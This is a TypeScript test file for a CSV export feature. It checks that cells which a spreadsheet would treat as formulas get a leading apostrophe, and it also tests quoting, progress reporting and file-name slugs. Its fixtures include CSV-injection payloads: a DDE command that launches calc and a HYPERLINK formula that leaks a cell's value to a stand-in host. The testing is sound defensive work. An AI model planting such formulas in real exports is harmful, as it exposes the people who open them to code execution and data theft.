import { describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../../../../../src/app/features/report/export/neutralise.ts';
import { csvFileName, fileSlug, toCsv } from '../../../../../../src/app/features/report/export/csv.ts';
import { buildTables, type ExportTable } from '../../../../../../src/app/features/report/export/tables.ts';
import { TRICKY, parseCsv, seededBundle } from './fixture.ts';

describe('neutralising cells', () => {
  it('puts an apostrophe before text a spreadsheet would run as a formula', () => {
    for (const text of [TRICKY.hyperlink, TRICKY.plus, TRICKY.minus, TRICKY.at, '\tx', '\rx']) expect(neutraliseCell(text)).toBe(`'${text}`);
    for (const text of ['', 'plain', 'a=b', ' a=b', 'x\n=y', TRICKY.arabic, TRICKY.emoji, '2026-03-10', 'a＝b', 'a＋b']) expect(neutraliseCell(text)).toBe(text);
  });

  it('also when spaces, tabs or line breaks come first, and for the full-width signs', () => {
    const tricky = [
      ' =1+1',
      '   =HYPERLINK("http://example.com")',
      '\n=cmd',
      '\r\n+1',
      ' \t-2',
      '\t\t@SUM(A1)',
      '\u00a0=x',
      '\u3000=x',
      '＝HYPERLINK("http://example.com")',
      '＋1',
      '－1',
      '＠SUM(A1)',
      '  ＝1',
    ];
    for (const text of tricky) expect(neutraliseCell(text), JSON.stringify(text)).toBe(`'${text}`);
    // in a CSV file, each comes out quoted where it needs quotes, and opening with the apostrophe
    const csv = toCsv({ name: 'notes', title: 'Notes', columns: ['Text'], rows: tricky.map((x) => [x]) });
    const cells = parseCsv(csv.slice(1))
      .slice(1)
      .map((r) => r[0]);
    expect(cells).toEqual(tricky.map((x) => `'${x}`));
  });
});

describe('CSV', () => {
  const tiny: ExportTable = {
    name: 'notes',
    title: 'Notes',
    columns: ['ID', '=Header', 'Text'],
    rows: [
      ['a', 5, TRICKY.quoted],
      ['b', null, TRICKY.multiline],
      ['c', -3, true],
      ['d', 0, TRICKY.hyperlink],
    ],
  };

  it('follows RFC 4180 with a byte-order mark, CRLF, and quotes only where needed', () => {
    const csv = toCsv(tiny);
    expect(csv.startsWith("\uFEFFID,'=Header,Text\r\n")).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).toContain('a,5,"She said ""organise, then negotiate"", twice"\r\n');
    expect(csv).toContain('b,,"First line\nsecond line, with a comma\r\nthird"\r\n');
    // numbers stay numbers, even negative ones; booleans are true/false
    expect(csv).toContain('c,-3,true\r\n');
    expect(csv).toContain(`d,0,"'=HYPERLINK(""http://example.com/?leak=""&A1,""click"")"\r\n`);
  });

  it('quotes semicolons and tabs, so a spreadsheet splitting on ";" never finds a formula mid-field', () => {
    const csv = toCsv({ name: 'notes', title: 'Notes', columns: ['Text'], rows: [["ok;=cmd|' /C calc'!A0"], ['a\t=b']] });
    expect(csv).toContain(`"ok;=cmd|' /C calc'!A0"\r\n`);
    expect(csv).toContain('"a\t=b"\r\n');
  });

  it('reads back to the same cells, neutralised, with one record per row', async () => {
    const tables = buildTables(await seededBundle(), false);
    for (const table of tables) {
      const parsed = parseCsv(toCsv(table).slice(1));
      expect(parsed, table.name).toHaveLength(table.rows.length + 1);
      expect(parsed[0]).toEqual(table.columns.map(neutraliseCell));
      table.rows.forEach((row, r) => expect(parsed[r + 1], table.name).toEqual(row.map((c) => (c === null ? '' : typeof c === 'string' ? neutraliseCell(c) : String(c)))));
    }
    const notes = toCsv(tables.find((t) => t.name === 'notes')!);
    expect(notes).toContain(TRICKY.emoji);
    expect(notes).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('reports progress in rows, ending with the row count', () => {
    const seen: number[] = [];
    const big: ExportTable = { ...tiny, rows: Array.from({ length: 1200 }, (_, i) => [String(i), i, 'x']) };
    toCsv(big, (n) => seen.push(n));
    expect(seen).toEqual([500, 1000, 1200]);
  });

  it('names files with a safe slug that keeps letters of any script', () => {
    expect(csvFileName(TRICKY.title, { name: 'notes' })).toBe('économie-informelle-santé-sécurité-التضامن-notes.csv');
    expect(csvFileName('  ***  ', { name: 'scores-wide' })).toBe('workshop-scores-wide.csv');
    expect(fileSlug('a'.repeat(100))).toHaveLength(60);
    expect(fileSlug(`${'x'.repeat(59)} 𝔘nion`)).toBe(`${'x'.repeat(59)}`);
    expect(fileSlug(fileSlug(TRICKY.title))).toBe(fileSlug(TRICKY.title));
    expect(fileSlug('Réseau/Sud 2026: "Atelier"')).toBe('réseau-sud-2026-atelier');
  });
});
